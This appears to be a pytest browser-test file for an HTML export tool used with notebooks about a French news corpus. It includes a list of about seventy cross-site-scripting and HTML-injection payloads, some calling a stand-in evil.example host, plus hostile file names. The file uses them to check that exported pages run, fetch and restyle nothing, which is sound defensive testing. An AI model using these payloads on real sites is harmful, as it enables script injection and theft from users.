    kept = ["Title", "Method", "Half", "Spoken"]
    assert [section.text for section in content.sections] == kept
    page = page_of(nb)
    assert re.findall(r'class="level-\d"><a href="#([^"]+)"', page) == kept[1:]
    about = provenance.describe_build(make_corpus(tmp_path))
    for whole in (page, render_index([content], about=about)):
        shown = whole.partition("<body")[2]
        for text in ("Opening.", "Only words.", "Prose that stays.", "Said."):
            assert text in shown
        for text in ("Gone", "that goes", "Listed", "Silent", "first", "second", "third", "Hardie"):
            assert text not in shown


# ---------------------------------------------------------------- in a browser

# Each would run a script, fetch something or restyle the page if it were let through.
RUN = "window.harmed=(window.harmed||0)+1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    '<script src="https://evil.example/a.js"></script>',
    f'<script type="module">{RUN}</script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="data:image/png;base64,AA==" alt="a long description" onerror="{RUN}">',
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src onerror="{RUN}"></style></mglyph></table></math>',
    f'<math href="javascript:{RUN}">x</math>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<p style="animation:x" onanimationstart="{RUN}">x</p>',
    "<style>body{display:none!important}</style>",
    "<style>@import 'https://evil.example/a.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button autofocus>Log in</button></form>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/a.png)">x</div>',
    '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png" alt="a photo">',
    '<table background="https://evil.example/a.png"><tr><td>x</table>',
    f"</pre></main></body></html><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><script>{RUN}</script>",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"[x](javascript:{RUN})",
    f'![x"onerror="{RUN}](x)',
    f"```html\n<script>{RUN}</script>\n```",
    "{{ 7*7 }}{% raw %}{{ policy }}",
    "<p class='skip single'>x</p><p id='theme'>x</p><p id='main'>x</p>",
    "\x00<script\x00>window.harmed=1</script>",
    "\u202etxet desrever\u2066",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<plaintext><script>{RUN}</script>",
    f'<marquee onstart="{RUN}" loop=1>x</marquee>',
    f'<dialog open onclose="{RUN}"><form method=dialog><button>x</button></form></dialog>',
    f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></svg>',
    '<a href="#x" ping="https://evil.example/">x</a>',
    '<img src="//evil.example/a.png" alt="a long description" loading="eager">',
    f'<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{RUN}">x</div>',
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    f'<select><style><!--</style><a rel="--></style></select><img src=x onerror={RUN}>">',
    f'<table><caption><img src=x onerror="{RUN}"></caption><tr><td>x</td></tr></table>',
    f'<li data-outlet="x" data-label=\'"><img src=x onerror={RUN}>\'>x</li>',
    f'<div class="search"><table><tbody><tr><td>&lt;img src=x onerror={RUN}&gt;</table></div>',
]


def hostile_notebook():
    cells = []
    for payload in HOSTILE:
        quoted = html.escape(payload)
        table = table_html([quoted, payload], [1, 2], 'tab-x" onclick="x')
        outputs = [
            new_output("display_data", {"text/html": payload}),
            new_output("display_data", {"text/html": f"<p>{quoted}</p>" + table}),
            new_output("display_data", {"text/markdown": payload}),
            new_output("execute_result", {"text/plain": payload}, execution_count=1),
            new_output("stream", name="stdout", text=payload),
            new_output("stream", name="stderr", text=payload),
            new_output("error", ename=payload, evalue=payload, traceback=[payload]),
        ]
        cells += [
            new_markdown_cell(f"## {payload}\n\n{payload}\n\n- {payload}"),
            new_code_cell(f"# {payload}", outputs=outputs),
        ]
    return new_notebook(cells=cells)


@pytest.fixture(scope="module")
def chromium():
    with open_browser() as browser:
        yield browser


def unfold(tab):
    tab.evaluate("document.querySelectorAll('details').forEach((part) => { part.open = true; })")


@pytest.fixture(scope="module")
def rich_page(tmp_path_factory):
    path = tmp_path_factory.mktemp("rich") / "2-words.html"
    path.write_text(page_of(rich_notebook()), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def index_page(tmp_path_factory):
    path = tmp_path_factory.mktemp("index") / "index.html"
    about = provenance.describe_build(make_corpus(path.parent, 30))
    said, endless = "Écho writes {q:fr} {n} times, {who} never.", "m" * 200
    facts = [finding(said, q="frappe", n=n, who=endless) for n in range(4)]
    told = {"words": join_findings(facts), "copies": join_findings(facts)}
    path.write_text(render_index(contents_of(**told), about=about), encoding="utf-8")
    return path


@pytest.mark.browser
def test_hostile_text_runs_nothing_fetches_nothing_restyles_nothing(chromium, tmp_path):
    path = tmp_path / "hostile.html"
    first = next(payload for payload in HOSTILE if "onerror" in payload)
    page = page_of(hostile_notebook(), made_from=MADE_FROM | {first: first})
    path.write_text(page, encoding="utf-8")
    with open_page(chromium, path) as (tab, log):
        for name in ("mouseover", "focus", "click", "toggle"):
            tab.evaluate(
                "(name) => document.querySelectorAll('main *').forEach("
                "(part) => part.dispatchEvent(new Event(name)))",
                name,
            )
        tab.wait_for_timeout(200)
        assert tab.evaluate("window.harmed") is None
        assert log.requests == []
        assert log.messages == []
        assert tab.url == path.as_uri()
        counts = tab.evaluate(
            """() => Object.fromEntries(["script", "style", "iframe", "form", "svg", "object",
            "base", "embed", "link", "meta", "input:not(.tools input, .find input)", "video",
                "template"].map(
            (name) => [name, document.querySelectorAll(name).length]))"""
        )
        assert counts.pop("style") == counts.pop("link") == counts.pop("script") - 1 == 1
        assert counts.pop("meta") == 12
        assert set(counts.values()) == {0}
        names = tab.evaluate(
            """() => [...new Set([...document.querySelectorAll("*")].flatMap(
            (part) => [...part.attributes].map((one) => one.name)))]"""
        )
        assert [name for name in names if name.startswith("on") or name == "srcdoc"] == []
        ids = tab.evaluate('() => [...document.querySelectorAll("[id]")].map((part) => part.id)')
        assert len(ids) == len(set(ids))
        styles = tab.evaluate(
            """() => [...document.querySelectorAll("[style]")].map((part) =>
            part.getAttribute("style"))"""
        )
        assert [style for style in styles if not re.fullmatch(r"--v:[0-9.]+", style)] == []
        assert tab.locator("h1").is_visible()


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory):
    """Articles whose text, title, outlet, address, agency and provenance are each a payload."""
    rows, texts = [], {}
    for i, payload in enumerate(HOSTILE):
        plain = " ".join(remove_controls(payload).split())
        name = f"hostile-{i:02d}"
        texts[name] = f"{plain}\nLe ministre « {plain} » a dit que {plain} frappe la coalition."
        about = {"title": plain, "url": plain, "agency": plain, "provenance_note": plain}
        rows.append(make_row(name, outlet=f"{plain[:200]} {i}", **about))
    return load_corpus(write_corpus(tmp_path_factory.mktemp("hostile"), texts, rows))


@pytest.mark.browser
def test_a_corpus_of_payloads_harms_no_page(chromium, hostile_corpus, tmp_path):
    assert len(hostile_corpus.articles) >= 60
    articles = hostile_corpus.articles
    shown = [
        show.table(articles, articles["title"][0]),
        show.table(hostile_corpus.quotes, "Quotes"),
        explore.concordance(hostile_corpus, "frappe")._show(),
        explore.evidence(hostile_corpus)._show(),
        show.say("overview", show.overview(hostile_corpus)),
        show.say("agency_copy", show.overview(hostile_corpus)),
    ]
    cells = [new_markdown_cell("# Hostile"), *map(html_cell, shown)]
    path = tmp_path / "hostile.html"
    about = provenance.describe_build(hostile_corpus)
    about["sentences"] = collect_sentences(hostile_corpus)
    content = read_content(new_notebook(cells=cells), "hostile")
    path.write_text(render_page(content, about=about), encoding="utf-8")
    index = tmp_path / "index.html"
    index.write_text(render_index([], about=about), encoding="utf-8")
    for file in (path, index):
        with open_page(chromium, file) as (tab, log):
            unfold(tab)
            if file == path:
                tab.get_by_role("search").get_by_role("searchbox").fill("frappe")
                assert tab.locator(".picked .kwic tr").count() >= 60
            for select in tab.locator("select:visible").all():
                select.select_option(index=1)
            tab.wait_for_timeout(200)
            assert tab.evaluate("window.harmed") is None
            assert log.requests == log.messages == []
            scripts = tab.locator("script").evaluate_all("all => all.map((one) => one.type)")
            assert scripts == ["", "application/json"] and tab.locator("style").count() == 1
            assert tab.locator("iframe, form, svg, object, embed, video, template").count() == 0
            assert tab.locator("h1").is_visible()


def test_a_file_name_that_is_no_plain_name_is_refused(tmp_path):
    names = ["<script>", "a b", "../../x", "x/y", '"><img src=x>', "con:", "-rf", ""]
    rows = [make_row(name, outlet="x") for name in names]
    write_corpus(tmp_path, {"good": "Un texte."}, [make_row("good"), *rows])
    problems = check_corpus(tmp_path)["message"]
    assert problems.str.startswith("doc_id").sum() == len(names)


@pytest.mark.browser
def test_the_policy_alone_stops_what_the_cleaning_would_miss(chromium, tmp_path):
    page = page_of(new_notebook())
    # A refresh cannot be stopped by a policy, and leaves nothing to look at.
    raw = "".join(
        payload for payload in HOSTILE if "refresh" not in payload and "<!--" not in payload
    )
    guarded, bare = tmp_path / "guarded.html", tmp_path / "bare.html"
    guarded.write_text(page.replace("</main>", f"{raw}</main>"), encoding="utf-8")
    opened = re.sub(r"<meta http-equiv[^>]*>", "", page).replace("</main>", f"{raw}</main>")
    bare.write_text(opened, encoding="utf-8")
    with open_page(chromium, bare, offline=True) as (tab, log):
        tab.wait_for_timeout(200)
        assert tab.evaluate("window.harmed") >= 1  # without it they do harm: the test can fail
        assert log.requests
        assert log.blocked == []
    with open_page(chromium, guarded) as (tab, log):
        tab.wait_for_timeout(200)
        assert tab.evaluate("window.harmed") is None
        assert set(log.requests) == set(log.blocked)


@pytest.mark.browser
@pytest.mark.parametrize(
    ("name", "scheme", "width"),
    [
        ("rich", "light", 1200),
        ("rich", "dark", 1200),
        ("rich", "light", 320),
        ("index", "light", 320),
        ("index", "dark", 1200),
    ],
)
def test_pages_are_accessible_quiet_and_fit(chromium, request, name, scheme, width):
    path = request.getfixturevalue(f"{name}_page")
    with open_page(chromium, path, width=width, color_scheme=scheme) as (tab, log):
        assert not overflows(tab)
        assert find_violations(tab) == []
        assert not overflows(tab)  # nor when all is unfolded
        assert log.requests == log.messages == []


@pytest.mark.browser
def test_tables_sort_by_number_and_by_french_word_and_go_back(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, _):
        unfold(tab)
        table = tab.locator("#tab-words")
        words = table.locator("tbody td:first-child")
        number, word = (table.get_by_role("button", name=name) for name in ("n", "Lemma"))
        number.click()
        assert words.all_text_contents()[:3] == ["Daech", "coalition", "ministre"]
        assert table.locator("th").nth(1).get_attribute("aria-sort") == "descending"
        number.click()
        assert words.all_text_contents()[:3] == ["août", "cœur", "État"]
        word.focus()
        tab.keyboard.press("Enter")
        assert words.all_text_contents() == [
            "août",
            "coalition",
            "cœur",
            "Daech",
            "défense",
            "élève",
            "État",
            "frappe",
            "guerre",
            "irakien",
            "ministre",
            "syrien",
            "zone",
        ]
        assert table.locator("[aria-sort]").count() == 1
        word.click()
        word.click()
        assert words.all_text_contents() == WORDS
        assert table.locator("[aria-sort]").count() == 0


@pytest.mark.browser
def test_filters_forgive_accents_and_count_aloud(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, _):
        unfold(tab)
        box = tab.get_by_role("searchbox", name="Filter rows of “Words of tab-words”")
        status = tab.locator(".tools", has=box).get_by_role("status")
        rows = tab.locator("#tab-words tbody tr:visible td:first-child")
        assert status.text_content() == "13 of 13 rows here"
        for typed, found in [
            ("etat", ["État"]),
            ("COEUR", ["cœur"]),
            ("e  n", ["zone", "irakien", "syrien", "ministre", "défense"]),
        ]:
            box.fill(typed)
            assert rows.all_text_contents() == found
            assert status.text_content() == f"{len(found)} of 13 rows here"
        box.fill("nothing like it")
        assert rows.count() == 0
        assert status.text_content() == "0 of 13 rows here"
        box.fill("")
        assert rows.all_text_contents() == WORDS
        # the long table, the evidence and the concordance, no short table
        assert tab.get_by_role("searchbox").count() == 3
        sentences = tab.get_by_role("searchbox", name="Filter sentences")
        sentences.fill("echo defense")
        assert tab.locator(".evidence li:visible").count() == 1


@pytest.mark.browser
def test_evidence_is_chosen_by_outlet_and_frame_with_the_keyboard(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, _):
        unfold(tab)
        assert tab.get_by_label("label of sentences").count() == 0  # one label: nothing to choose
        items = tab.locator(".evidence li:visible")
        frame = tab.get_by_label("frame of sentences")
        assert frame.locator("option").all_text_contents() == ["all", "law", "war"]
        frame.select_option("law")
        assert items.count() == 3
        tab.get_by_label("outlet of sentences").focus()
        tab.keyboard.press("ArrowDown")
        assert items.count() == 2
        tools = tab.locator(".tools", has=frame)
        assert tools.get_by_role("status").text_content() == f"2 of {len(WORDS)} sentences"


@pytest.mark.browser
def test_every_page_has_a_concordance(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, log):
        box = tab.get_by_role("search").get_by_role("searchbox")
        panel, rows = tab.locator(".picked"), tab.locator(".picked .kwic tr")
        assert panel.is_hidden()
        for typed, hits, told in [
            ("frapp*", ["frappe", "frappes", "frappe"], "3 lines in 2 of 2 outlets, as form"),
            ("FRAPPER", ["frappe", "frappes", "frappe"], ", as lemma: frappe, frappes"),
            ("frappe", ["frappe", "frappe"], "2 lines in 2 of 2 outlets, as form"),
            ("etat", ["État", "E\u0301tat"], "2 lines in 1 of 2 outlets"),
            ("sans coeur, la", ["Sans cœur, la"], "1 line in 1 of 2 outlets"),
            ("l'etat f*", ["L’État frappe"], "1 line in 1 of 2 outlets"),
            ("frapps", [], "0 lines in 0 of 2 outlets; did you mean frappe, frappes"),
            ("*", [], "0 lines"),
            (".+", [], "0 lines"),
        ]:
            box.fill(typed)
            assert rows.locator(".hit").all_text_contents() == hits
            assert told in panel.locator("output").text_content()
        box.fill("frapp*")
        assert "(3 of 9 sentences are on this page)" in panel.locator("output").text_content()
        tab.get_by_label("Order of the lines").select_option("right")
        cites = rows.locator("td:nth-child(4)")
        assert cites.first.text_content() == "Écho 1, sentence 1"
        tab.get_by_label("Outlet on the whole page").select_option("Écho 1")
        assert "<b onmouseover=alert(1)>" in rows.locator(".right").text_content()
        assert tab.locator(".kwic b").count() == 0 and log.messages == []
        assert find_violations(tab) == []


@pytest.mark.browser
def test_a_page_finds_what_says_the_like(chromium, tmp_path):
    near = np.array([[2, 0, 204], [0, 0, 51], [0, 0, 204]], dtype=np.uint8)  # one of each
    told = SENTENCES | {"nearest": base64.b64encode(near.tobytes()).decode()}
    about = {"made_from": MADE_FROM, "articles": [], "summary": None, "sentences": write_json(told)}
    path = tmp_path / "near.html"
    path.write_text(render_page(read_content(rich_notebook(), "2"), about=about), "utf-8")
    texts = [row[2] for row in FOUND]
    with open_page(chromium, path) as (tab, log):
        panel, found = tab.locator(".picked"), tab.locator(".picked li blockquote")
        tab.get_by_role("search").get_by_role("searchbox").fill("le mot qui manque")
        tab.get_by_label("What is found").select_option("meaning")
        # One word is shared with the third, which leads to the first, and nothing to the second.
        assert found.all_text_contents() == [texts[2], texts[0]]
        assert "coarser than in JupyterLab" in panel.locator("output").text_content()
        panel.locator("li", has_text="pas un mot").get_by_role("button", name="nearest").click()
        assert found.all_text_contents() == [texts[0]]
        assert panel.locator("cite").text_content() == "0.80 · Écho 0, 2016-01-20, sentence 1"
        assert find_violations(tab) == log.messages == []


@pytest.mark.browser
def test_a_mark_opens_its_sentences_and_the_selection_holds_on_the_page(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, log):
        marks, panel = tab.locator("figure svg g"), tab.locator(".picked")
        marks.first.hover()
        assert tab.locator(".tip").text_content() == "Écho 0: n = 3"
        marks.first.click()
        assert panel.locator("li blockquote").all_text_contents() == [FOUND[0][2]]
        off = "all => all.map((one) => one.classList.contains('off'))"
        assert marks.evaluate_all(off) == [False, True]
        items = tab.locator("ol.evidence > li")
        assert items.evaluate_all(off) == [bool(i % 2) for i in range(len(WORDS))]
        tab.get_by_role("button", name="Remove Écho 0").click()
        assert panel.is_hidden() and not any(marks.evaluate_all(off) + items.evaluate_all(off))
        marks.first.focus()  # by keyboard: the arrow leads to the next mark, Escape back to it
        tab.keyboard.press("ArrowRight")
        tab.keyboard.press("Enter")
        assert panel.locator("li").count() == 2
        assert panel.locator("cite").all_text_contents()[0] == "Écho 1, sentence 1: critical"
        tab.keyboard.press("Escape")
        assert (
            panel.is_hidden() and tab.evaluate("document.activeElement.dataset.outlet") == "Écho 1"
        )
        tab.locator("main q button").first.click()
        assert panel.locator(".hit").all_text_contents() == ["frappe", "frappe"]
        assert log.messages == []


@pytest.mark.browser
def test_a_link_to_a_place_is_copied_and_opens_what_is_folded(chromium, rich_page):
    with open_page(chromium, rich_page, permissions=["clipboard-read", "clipboard-write"]) as (
        tab,
        _,
    ):
        tab.get_by_role("link", name="Link to figure fig-rates").focus()
        tab.keyboard.press("Enter")
        tab.wait_for_function("document.querySelector('.said').textContent.startsWith('Copied')")
        # Whoever gets the page has it in another folder.
        copied = tab.evaluate("navigator.clipboard.readText()")
        assert copied == "Rates; n = 13. (2-words.html#fig-rates)"
        assert tab.evaluate("location.hash") == "#fig-rates"
        assert not tab.locator("#ref-Hardie-2014").is_visible()
        cite = tab.locator("a.cite", has_text="Hardie 2014").first
        cite.evaluate("(link) => { link.closest('details').open = true; link.click(); }")
        assert tab.evaluate("location.hash") == "#ref-Hardie-2014"
        assert tab.locator("#ref-Hardie-2014").is_visible()


@pytest.mark.browser
def test_a_page_reads_without_javascript(chromium, rich_page):
    with open_page(chromium, rich_page, java_script_enabled=False) as (tab, _):
        assert tab.locator("#tab-words tbody tr:visible").count() == 0
        tab.locator("summary", has_text="Words of tab-words").click()
        assert tab.locator("#tab-words tbody tr:visible").count() == len(WORDS)
        tab.locator("summary", has_text="the words that count").click()
        assert tab.locator(".evidence li:visible").count() == len(WORDS)
        assert tab.locator("h1, h2, h3").filter(visible=True).count() == 9
        assert not tab.locator("#theme").is_visible()
        assert tab.locator("button:visible, input:visible").count() == 0
        code = tab.locator("details.code").first
        assert not code.locator("pre").is_visible()
        code.locator("summary").click()
        assert code.locator("pre").is_visible()


@pytest.mark.browser
def test_theme_button_turns_and_remembers(chromium, rich_page):
    ground = "getComputedStyle(document.body).backgroundColor"
    with open_page(chromium, rich_page, color_scheme="light") as (tab, _):
        light = tab.evaluate(ground)
        tab.get_by_role("button", name="Dark theme").click()
        dark = tab.evaluate(ground)
        assert dark != light
        tab.reload()
        assert tab.evaluate(ground) == dark
        tab.get_by_role("button", name="Light theme").click()
        assert tab.evaluate(ground) == light


@pytest.mark.browser
def test_the_numbers_of_a_figure_come_with_the_file(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, log):
        with tab.expect_download() as download:
            tab.get_by_role("link", name="Data (CSV)").click()
        assert download.value.suggested_filename == "rates.csv"
        text = Path(download.value.path()).read_text(encoding="utf-8")
        assert text == "outlet,rate\nÉcho,1.5\n"
        assert log.requests == []


@pytest.mark.browser
def test_keyboard_reaches_the_text_first_and_contents_follow(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, _):
        tab.keyboard.press("Tab")
        assert tab.evaluate("document.activeElement.textContent") == "Skip to the text"
        tab.keyboard.press("Enter")
        assert tab.evaluate("location.hash") == "#main"
        tab.locator(".contents a", has_text="Part 2").click()
        tab.wait_for_function(
            "document.querySelector('.contents [aria-current]')?.textContent === 'Part 2'"
        )


@pytest.mark.browser
def test_print_is_a_report(chromium, rich_page):
    with open_page(chromium, rich_page, color_scheme="dark") as (tab, _):
        code = tab.locator("details.code pre").filter(visible=True)
        assert code.count() == 0
        tab.get_by_role("button", name="Show code").click()
        shown = code.count()
        assert shown > 1
        tab.emulate_media(media="print")
        assert code.count() == shown
        assert (
            tab.locator(".contents, .tools, .bar-top, .skip, .anchor").filter(visible=True).count()
            == 0
        )
        assert tab.locator(".headline").is_visible()
        assert tab.locator("#tab-words").is_hidden()  # what is folded is not printed
        style = tab.evaluate(
            "(({color, backgroundColor}) => [color, backgroundColor])"
            "(getComputedStyle(document.body))"
        )
        assert style == ["rgb(31, 29, 26)", "rgba(0, 0, 0, 0)"]  # dark on nothing
        assert tab.pdf(prefer_css_page_size=True).startswith(b"%PDF")


@pytest.mark.browser
def test_the_index_has_a_tab_for_each_page_and_stands_alone(chromium, exported, tmp_path):
    alone = tmp_path / "mailed.html"
    shutil.copyfile(exported[1] / "index.html", alone)
    with open_page(chromium, alone) as (tab, log):
        tabs, chapters = tab.locator(".tabs a"), tab.locator(".chapter").filter(visible=True)
        assert tabs.all_text_contents() == ["Overview", "Which words?", "A plain one"]
        assert chapters.get_attribute("id") == "overview"
        tabs.nth(2).click()
        assert chapters.get_attribute("id") == "10-plain--chapter"
        assert tabs.nth(2).get_attribute("aria-current") == "page"
        tab.go_back()
        assert chapters.get_attribute("id") == "overview"
        assert find_violations(tab) == log.messages == log.requests == []
    with open_page(chromium, alone, java_script_enabled=False) as (tab, _):
        assert tab.locator(".chapter").filter(visible=True).count() == 3


@pytest.mark.browser
def test_a_table_is_saved_for_any_spreadsheet(chromium, rich_page):
    with open_page(chromium, rich_page) as (tab, _):
        unfold(tab)
        for label, separator, share in [("CSV", ",", "0.5"), ("CSV ;", ";", "0,5")]:
            with tab.expect_download() as download:
                tab.get_by_role("button", name=f"{label} of “Saved”").click()
            text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
            assert text.splitlines() == [
                f"word{separator}share",
                f"'=1+1{separator}{share}",  # no spreadsheet runs it
            ]
            assert Path(download.value.path()).read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.browser
def test_on_a_phone_two_texts_stand_one_above_the_other(chromium, tmp_path):
    rows = pd.DataFrame(
        {
            "status": ["verbatim", "verbatim", "edited"],
            "first": [[("Un.", "")], [("Deux.", "")], [("Trois ", ""), ("mots", "del")]],
            "second": [[("Un.", "")], [("Deux.", "")], [("Trois ", ""), ("noms", "ins")]],
        }
    )
    rows.attrs = {"first": "Écho", "second": "Le Soir"}
    cells = [new_markdown_cell("# Two\n\n## Texts"), html_cell(show.pairs(rows, "Side by side"))]
    path = tmp_path / "pairs.html"
    path.write_text(page_of(new_notebook(cells=cells)), encoding="utf-8")
    for width, below in [(390, True), (1280, False)]:
        with open_page(chromium, path, width=width) as (tab, _):
            assert tab.get_by_text("Un.").is_hidden()  # what is the same in both is folded
            tab.get_by_text("2 sentences").click()
            assert tab.get_by_text("Un.").is_visible()
            first, second = (tab.locator(tag).first.bounding_box() for tag in ("td del", "td ins"))
            assert (second["y"] > first["y"] + first["height"]) == below
            assert not overflows(tab)
